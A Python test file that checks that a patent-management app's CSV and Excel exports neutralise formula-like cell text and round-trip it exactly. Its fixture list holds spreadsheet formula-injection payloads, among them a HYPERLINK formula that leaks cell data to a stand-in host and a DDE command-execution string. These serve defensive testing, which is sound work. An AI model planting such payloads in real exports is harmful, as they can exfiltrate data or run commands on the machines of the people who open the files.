"""Every CSV and Excel export goes through one writer, and no cell comes back as a live formula."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook
from sqlalchemy import select

from ipcity.core.tables import User
from ipcity.core.tabular import csv_text, neutralise, unneutralise, workbook_bytes
from tests.support.people import login

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)",
           "\t=1+1", "\r=1+1", "＝1+1", "'=already quoted"]


def test_formula_like_text_is_neutralised_and_can_be_read_back_exactly():
    for text in HOSTILE:
        cell = neutralise(text)
        assert cell.startswith("'"), text
        assert unneutralise(cell) == text
    assert neutralise("普通文本") == "普通文本" and neutralise(-5) == -5 and neutralise(None) is None
    assert unneutralise("it's fine") == "it's fine"


def test_csv_text_writes_no_formula():
    rows = list(csv.reader(io.StringIO(csv_text(["name"], [[t] for t in HOSTILE]))))
    assert all(row[0].startswith("'") for row in rows[1:])


def test_excel_cells_are_text_never_formulas():
    data = workbook_bytes({"s": (["name", "n"], [[t, 3] for t in HOSTILE])})
    ws = load_workbook(io.BytesIO(data))["s"]
    for (name, n), text in zip(ws.iter_rows(min_row=2, values_only=False), HOSTILE, strict=True):
        assert name.data_type == "s" and name.value == "'" + text
        assert n.value == 3 and n.data_type == "n"


def test_an_export_page_neutralises_a_hostile_name(client, people):
    with client.app.state.services.db.session() as s:
        s.scalar(select(User).where(User.username == "company")).display_name = '=HYPERLINK("http://x","y")'
        s.commit()
    login(client, "admin")
    response = client.get("/admin/users?format=csv")
    assert response.status_code == 200, response.text
    cells = [c for row in csv.reader(io.StringIO(response.text.lstrip("\ufeff"))) for c in row]
    assert "'=HYPERLINK(\"http://x\",\"y\")" in cells
    assert not any(c.startswith("=") for c in cells)


def test_the_native_patent_csv_round_trips_formula_like_titles(tmp_path):
    from ipcity.patents.ingest.native import CsvReader, write_csv
    from ipcity.patents.record import PatentRecord

    titles = ["=HYPERLINK(\"x\")", "-1+2 型电池", "'引号开头", "普通标题"]
    records = [PatentRecord(pub_number=f"CN10000000{i}A", title=t) for i, t in enumerate(titles)]
    path = tmp_path / "out.csv"
    assert write_csv(records, path) == 4
    raw = path.read_text(encoding="utf-8")
    assert "\n=HYPERLINK" not in raw and ",=HYPERLINK" not in raw
    read = [item.record.title for item in CsvReader().read(path) if hasattr(item, "record")]
    assert read == titles
